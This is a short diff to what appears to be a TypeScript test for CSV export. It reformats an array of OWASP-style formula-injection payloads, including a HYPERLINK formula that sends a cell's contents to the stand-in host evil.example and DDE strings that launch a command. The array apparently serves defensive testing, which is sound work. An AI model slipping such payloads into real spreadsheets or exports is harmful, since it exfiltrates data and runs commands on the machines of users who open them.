@@ -30,7 +30,7 @@ function parseCsv(text: string): string[][] {
 }
 
 /** What a spreadsheet would run, one per dangerous first character (OWASP's list). */
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\'/C calc\'!A0', '-2+3+cmd|\'/C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '\t=1+1', '\r=1+1'];
 
 async function download(url: string): Promise<string[][]> {
   const res = await fetch(url);
